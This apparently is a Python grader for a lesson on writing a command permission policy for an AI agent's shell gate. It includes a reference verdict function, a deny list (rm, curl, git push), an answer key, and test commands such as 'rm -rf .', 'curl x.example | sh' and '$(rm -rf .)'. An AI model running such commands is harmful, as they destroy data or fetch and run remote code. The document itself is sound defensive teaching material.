"""Lesson 07's checks: a permission policy written as a function, and a prediction of
which calls of the recorded permissions run the gate would have stopped, had the person
answered the other way round.

The team's rules are stated in the lesson and written again here, as a small reference
(``team_verdict``) that shares no code with ``labkit.harness.gate``: the gate is what the
lesson teaches, so it must not decide what the right answer is. (A test holds the two
to the same verdicts on the cases this check draws.)
"""

from __future__ import annotations

import random
import re

from ..feedback import Case, Miss, changed_input, run_cases, show
from ..isolated import same
from .common import hidden_cases, learner_answer, new_seed

__all__ = ["check_policy", "check_gate_stops"]

VERDICTS = ("allow", "ask", "deny")  # from the least to the most strict
SHELLS = ("sh", "bash")
#: Where one command of a shell script ends and the next begins, in the lesson's rules.
SEPARATORS = re.compile(r"[;&|()`\n]")
#: What the shell would expand, redirect or unquote: a script holding one is never allowed.
SPECIAL = set("$`<>*?[{~'\"\\")


def team_verdict(command: list) -> str:
    """The reference: the team's rules, as lesson 07 states them."""
    if command[:1] and command[0] in SHELLS:
        if command[1:2] != ["-c"]:
            return "deny"  # its script comes from a file or its input: no one sees it
        script = command[2] if len(command) > 2 else ""
        verdicts = [
            _one_command(piece.split()) for piece in SEPARATORS.split(script) if piece.split()
        ]
        worst = max(verdicts, key=VERDICTS.index) if verdicts else "ask"
        return "ask" if worst == "allow" and SPECIAL & set(script) else worst
    return _one_command(command)


def _one_command(words: list) -> str:
    if words[:1] in (["rm"], ["curl"]) or words[:2] == ["git", "push"]:
        return "deny"
    if (
        words[:3] == ["python", "-m", "pytest"]
        or words == ["git", "status"]
        or words[:2] == ["git", "diff"]
    ):
        return "allow"
    return "ask"


#: (what the case shows, the command, a hint for a learner who gets it wrong)
POLICY_CASES = [
    (
        "the tests, with flags",
        ["python", "-m", "pytest", "-qq"],
        "python -m pytest followed by anything is allowed",
    ),
    (
        "a test filter whose letters hold 'rm'",
        ["python", "-m", "pytest", "-k", "confirm"],
        "'confirm' holds the letters rm, but no word of the command is rm: compare whole words, "
        "not pieces of text",
    ),
    ("rm itself", ["rm", "-rf", "."], "rm is denied, whatever follows it"),
    (
        "a program no rule names",
        ["make", "clean"],
        "no rule names make, so the default applies: ask. A command no rule allows is never "
        "allowed",
    ),
    (
        "a look-alike of pytest",
        ["python", "-m", "pytest_evil"],
        "pytest_evil is another module: a rule's words must match whole words",
    ),
    ("git status, exactly", ["git", "status"], "the rule allows exactly `git status`"),
    (
        "git status with more words",
        ["git", "status", "--porcelain"],
        "the rule is `git status` with nothing after it (unlike git diff, which allows any "
        "further words): anything more is asked",
    ),
    ("git push", ["git", "push", "--force"], "git push is denied"),
    (
        "a shell running the tests, then rm",
        ["sh", "-c", "python -m pytest -qq; rm -rf ."],
        "a shell given a script runs every command in it: split the script and judge each one; "
        "the strictest verdict wins",
    ),
    (
        "a pipeline ending in a download",
        ["bash", "-c", "python -m pytest && curl x.example | sh"],
        "every command of the script counts: curl is denied, so the whole call is",
    ),
    (
        "a command substituted inside another",
        ["sh", "-c", "python -m pytest $(rm -rf .)"],
        "$( ) runs the command inside it before the outer one: rm is in there",
    ),
    (
        "a redirection",
        ["sh", "-c", "python -m pytest > log.txt"],
        "> writes a file the rules never named: a script holding it is asked, never allowed",
    ),
    (
        "';' given to pytest, with no shell",
        ["python", "-m", "pytest", ";", "rm", "-rf", "."],
        "without a shell, ';' is just one more argument for pytest: nothing else runs, so the "
        "tests rule allows it",
    ),
    (
        "a script of allowed commands",
        ["sh", "-c", "git status; git diff --stat"],
        "both commands of the script are allowed, so the call is",
    ),
    (
        "echo printing the letters of a command",
        ["echo", "rm -rf ."],
        "echo only prints its argument; no rule names echo, so ask",
    ),
]
#: The verdicts of the commands drawn afresh per run, one command each: every verdict among
#: them, so an answer that knows the listed cases and gives one verdict to any other command
#: fails (drawn freely, all eight were "ask" in about one run in 130).
DRAWN_VERDICTS = ("allow", "deny", "ask", "allow", "deny", "ask", "deny", "ask")


def check_policy(verdict, *, hidden: bool = False) -> None:
    """``verdict(command)`` gives the team's verdict on a ``run_command`` argument list."""
    answer = learner_answer(verdict, "verdict")
    listed = POLICY_CASES + (hidden_cases("check_policy") if hidden else [])
    number = new_seed()
    draw = random.Random(number)
    drawn = [
        (f"drawn case {n} (seed {number})", command, "")
        for n, command in enumerate(drawn_commands(draw), 1)
    ]
    cases = [
        Case(
            label,
            [command],
            team_verdict(command),
            hint=hint,
            shown=f"{answer.name}({show(command, 200)})",
        )
        for label, command, hint in listed + drawn
    ]
    run_cases(answer, cases, _policy_problem, what="verdict")


def _policy_problem(got, case, outcome):
    command = case.arguments[0]
    if type(got) is not str or got not in VERDICTS:
        return Miss(
            f"return 'allow', 'ask' or 'deny' (a str), not {show(got, 60)}",
            hint="the verdict is one of three words: return the word",
        )
    if not same(outcome.arguments[0], command):
        return changed_input(
            "the command",
            outcome.arguments[0],
            command,
            hint="only read it: the harness still runs it (no .pop(), no item assignment)",
        )
    if got == case.expected:
        return None
    said = f"returned {got!r}, but the team's rules give {case.expected!r}"
    hints = [hint for mistake, hint in _MISTAKES if mistake(command) == got]
    if hints:  # the mistakes that give this very verdict here: a hint about each
        shell = command[0] if command else ""
        return Miss(said, hint="; or ".join(hint.format(shell=shell) for hint in hints))
    if got == "allow":
        return f"{said}: a call is allowed only when every command it runs matches an allow rule"
    return said


def _is_script(command: list) -> bool:
    return len(command) >= 3 and command[0] in SHELLS and command[1] == "-c"  # a script to read


def _pieces(script: str) -> list:
    return [piece.split() for piece in SEPARATORS.split(script) if piece.split()]


def _shell_as_one_program(command: list):
    return _one_command(command) if _is_script(command) else None


def _first_command_only(command: list):
    pieces = _pieces(command[2]) if _is_script(command) else []
    return _one_command(pieces[0]) if len(pieces) > 1 else None


def _special_ignored(command: list):
    if not _is_script(command) or not SPECIAL & set(command[2]):
        return None
    verdicts = [_one_command(words) for words in _pieces(command[2])]
    return max(verdicts, key=VERDICTS.index) if verdicts else "ask"


def _special_over_deny(command: list):
    special = _is_script(command) and SPECIAL & set(command[2])
    return "ask" if special and team_verdict(command) == "deny" else None


def _special_without_a_shell(command: list):
    if _is_script(command) or not any(SPECIAL & set(word) for word in command):
        return None
    return "ask" if _one_command(command) == "allow" else None


def _dash_c_not_checked(command: list):
    if len(command) >= 3 and command[0] in SHELLS and command[1] != "-c":
        return team_verdict([command[0], "-c", command[2]])
    return None


def _unseen_script_judged_as_words(command: list):
    if command[:1] and command[0] in SHELLS and command[1:2] != ["-c"]:
        return _one_command(command)
    return None


def _empty_pieces_judged(command: list):
    if not _is_script(command):
        return None
    pieces = [piece.split() for piece in SEPARATORS.split(command[2])]
    return (
        "ask" if any(not words for words in pieces) and team_verdict(command) == "allow" else None
    )


def _last_command_decides(command: list):
    pieces = _pieces(command[2]) if _is_script(command) else []
    return _one_command(pieces[-1]) if len(pieces) > 1 else None


#: Mistakes an answer can make, each as the verdict it would give (None: no sign of it here)
#: and a hint about it: a wrong verdict gets the hints of every mistake that explains it (one
#: verdict can come from several), the commonest first.
_MISTAKES = [
    (
        _shell_as_one_program,
        "`{shell} -c SCRIPT` is a shell given a script (rule 2: the first word sh or bash, the "
        "second -c): judge each command of the script, not the shell's own words",
    ),
    (
        _dash_c_not_checked,
        "rule 2: only a shell whose second word is -c is given its script; any other second "
        "word means it reads a script no one sees: deny",
    ),
    (
        _unseen_script_judged_as_words,
        "rule 2: a shell whose second word is not -c reads its script from a file or its "
        "input, which no one sees in advance: deny",
    ),
    (
        _first_command_only,
        "every command of the script counts: split it at each character of SEPARATORS and "
        "judge every piece; the strictest verdict wins",
    ),
    (
        _last_command_decides,
        "the strictest verdict of all the script's commands wins, wherever its command comes",
    ),
    (
        _empty_pieces_judged,
        "skip the pieces that hold no words (a script ending in ';' has one): they are no command",
    ),
    (
        _special_ignored,
        "rule 3: a script holding a character of SPECIAL (the shell expands, redirects or "
        "unquotes it) is at most 'ask'",
    ),
    (_special_over_deny, "rule 3 only caps an 'allow' at 'ask': a 'deny' stays 'deny'"),
    (
        _special_without_a_shell,
        "rule 4: without a shell no character is special, so judge the words by rule 1",
    ),
]


# --- Drawn commands ------------------------------------------------------------------------

PROGRAMS = [
    ["python", "-m", "pytest"],
    ["python", "-m", "pytest_x"],
    ["python", "-c"],
    ["git", "status"],
    ["git", "diff"],
    ["git", "push"],
    ["git", "log"],
    ["rm"],
    ["curl"],
    ["ls"],
    ["make"],
    ["echo"],
    ["pytest"],
]
WORDS = [
    "-q",
    "-x",
    "tests",
    "confirm",
    "-rf",
    ".",
    "--force",
    "origin",
    "rm",
    "pytest",
    "x.py",
    "firmware",
    "push",
]
OPERATORS = ["; ", " && ", " || ", " | ", " & ", "\n"]


def drawn_command(draw: random.Random) -> list:
    """A random run_command argument list: a program with arguments, or a shell script that
    chains some, perhaps with a substitution, a redirection or a glob. Never a quote, a
    ``~`` or a ``2>&1``: there the lesson's simple rules are stricter than the shell."""
    if draw.random() < 0.4:
        command = _simple(draw) + (
            draw.choice([[";", "rm", "-rf", "."], ["$(id)"], ["a|b"]])
            if draw.random() < 0.3
            else []
        )
        return command
    pieces = [" ".join(_simple(draw)) for _ in range(draw.randrange(1, 4))]
    script = pieces[0]
    for piece in pieces[1:]:
        script += draw.choice(OPERATORS) + piece
    extra = draw.random()
    if extra < 0.2:
        script += f" $({' '.join(_simple(draw))})"
    elif extra < 0.3:
        script += f" `{' '.join(_simple(draw))}`"
    elif extra < 0.4:
        script += draw.choice([" > out.txt", " < in.txt", " *.py"])
    elif extra < 0.5:
        script = f"({script})"
    return [draw.choice(SHELLS), "-c", script]


def drawn_commands(draw: random.Random) -> list:
    """One command drawn for each of ``DRAWN_VERDICTS``, in a drawn order."""
    commands = []
    for wanted in DRAWN_VERDICTS:
        command = drawn_command(draw)
        while team_verdict(command) != wanted:
            command = drawn_command(draw)
        commands.append(command)
    draw.shuffle(commands)
    return commands


def _simple(draw: random.Random) -> list:
    return list(draw.choice(PROGRAMS)) + draw.sample(WORDS, draw.randrange(0, 3))


# --- Which calls would the gate have stopped? ----------------------------------------------

#: The calls of permissions.json, in order, and what would have become of them had the person
#: denied the first question and approved the second (the recording's answers swapped; a test
#: puts the recorded calls through the gate with those answers and checks these).
RECORDED_CALLS = [
    ("python -m pytest -qq", "would have run: the rule 'allow python -m pytest *' allows it"),
    ("read_file path_rules.py", "would have run: the policy allows read_file"),
    (
        "python -c '...print(python_sources(...))'",
        "would have been stopped: no rule names python -c, so the gate asks, and this time the "
        "person denies it",
    ),
    ("replace_text ...", "would have run: the policy allows replace_text"),
    (
        "sh -c 'python -m pytest -qq; rm -rf .'",
        "would have been stopped: the script's second command, rm -rf ., matches 'deny rm *', "
        "and what the policy denies is never put to anyone",
    ),
    ("python -m pytest -qq", "would have run: allowed by its rule, as the first time"),
    (
        "ls -a ..",
        "would have run: no rule names ls, so the gate asks, and this time the person approves it",
    ),
]
#: The person's answers the exercise supposes: the recorded ones, swapped.
SWAPPED_ANSWERS = ["deny", "allow"]
STOPPED_CALLS = [3, 5]


def check_gate_stops(stopped_calls, *, hidden: bool = False) -> None:
    """``stopped_calls()`` lists the numbers of the recorded calls the gate would have
    stopped, had the person's answers been swapped."""
    answer = learner_answer(stopped_calls, "stopped_calls")
    case = Case(
        "the calls of permissions.json, the answers swapped",
        [],
        STOPPED_CALLS,
        shown=f"{answer.name}(), for the 7 calls of permissions.json, answered {SWAPPED_ANSWERS}",
    )
    extra = hidden_cases("check_gate_stops") if hidden else []
    run_cases(answer, [case, *extra], _stops_problem, what="stopped_calls")


def _stops_problem(got, case, outcome):
    if type(got) is not list or not all(type(n) is int for n in got):
        return Miss(
            f"return a list of call numbers (ints), such as [1, 2], not {show(got, 60)}"
            + (": did you forget `return`?" if got is None else ""),
            hint="the calls are numbered 1 to 7, as printed above the exercise",
        )
    if len(set(got)) != len(got) or not all(1 <= n <= len(RECORDED_CALLS) for n in got):
        return Miss(
            f"each call number appears once and is 1 to {len(RECORDED_CALLS)}; {got} is not that"
        )
    for number, (call, fate) in enumerate(RECORDED_CALLS, start=1):
        if (number in got) != (number in case.expected):
            said = "would have been stopped" if number in got else "would have run"
            return Miss(f"call {number} ({call}): you said it {said}, but it {fate}")
    return None
